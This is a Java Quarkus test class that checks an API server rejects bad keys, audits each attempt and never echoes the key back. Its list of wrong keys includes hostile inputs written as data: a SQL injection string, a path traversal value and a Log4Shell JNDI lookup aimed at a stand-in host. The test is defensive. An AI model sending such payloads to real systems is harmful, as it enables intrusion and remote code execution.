package dev.memoryservice.server.gate;

import static dev.memoryservice.server.Json.json;
import static dev.memoryservice.server.Waiting.await;
import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.not;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.memoryservice.server.Client;
import dev.memoryservice.server.RunningServer;
import dev.memoryservice.server.audit.Audit;
import dev.memoryservice.server.audit.AuditEntry;
import dev.memoryservice.server.auth.UserFiles;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.io.IOException;
import java.util.Locale;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Keys as no client of good will sends them: refused in the standard way, audited, and never repeated. */
@QuarkusTest
@WithTestResource(RunningServer.class)
class BadKeyTest {

    private static final int LONG = 12_000;

    @Inject
    Audit audit;

    static String[] wrongKeys() {
        String good = UserFiles.keyOf(RunningServer.WRITER);
        return new String[] {
            good.substring(1),
            good.substring(0, good.length() - 1),
            good + "x",
            good.toUpperCase(Locale.ROOT),
            RunningServer.WRITER,
            (String) UserFiles.digest(good).get("sha256"),
            "clé-à-moi",
            "' OR '1'='1",
            "../" + RunningServer.WRITER + ".json",
            "${jndi:ldap://evil.example/a}",
            "%00",
            "k".repeat(LONG)
        };
    }

    @ParameterizedTest
    @MethodSource("wrongKeys")
    void aKeyThatIsNobodysIsRefusedAndNotRepeated(String key) throws JsonProcessingException {
        String path = "/api/" + Client.unique("tried");
        given().header("X-API-Key", key)
                .get(path)
                .then()
                .statusCode(403)
                .body(json("detail", containsString("not one of this server")))
                .body(not(containsString(key)));

        AuditEntry entry = await().until(
                        () -> audit.last().stream()
                                .filter(last -> last.path().equals(path))
                                .findFirst(),
                        Optional::isPresent)
                .orElseThrow();
        assertThat(entry.reason()).isEqualTo("unknown_credential");
        assertThat(new ObjectMapper().writeValueAsString(entry)).doesNotContain(key);
    }

    @ParameterizedTest
    @ValueSource(ints = {64 * 1024, 1024 * 1024})
    void aKeyLongerThanHeadersMayBeIsNotEvenReadAndTheServerGoesOn(int length) {
        try {
            given().header("Authorization", "Bearer " + "k".repeat(length))
                    .get("/api/tags")
                    .then()
                    .statusCode(431);
        } catch (Exception cut) {
            // The answer overtook what was still being sent, and the connection is closed.
            assertThat(cut).isInstanceOf(IOException.class);
        }

        Client.client().get("/api/tags").then().statusCode(200);
    }

    @Test
    void noKeyIsWhatIsEmptyOrBlank() {
        given().header("X-API-Key", "").get("/api/tags").then().statusCode(401);
        given().header("X-API-Key", "   ").get("/api/tags").then().statusCode(401);
        given().header("Authorization", "Bearer ").get("/api/tags").then().statusCode(401);
        given().header("Authorization", UserFiles.keyOf(RunningServer.WRITER))
                .get("/api/tags")
                .then()
                .statusCode(401);
    }

    @Test
    void ofTwoKeysThatOfItsOwnHeaderCounts() {
        given().header("X-API-Key", UserFiles.keyOf(RunningServer.READER))
                .header("Authorization", "Bearer " + UserFiles.keyOf(RunningServer.ADMINISTRATOR))
                .get("/metrics")
                .then()
                .statusCode(403);
    }
}
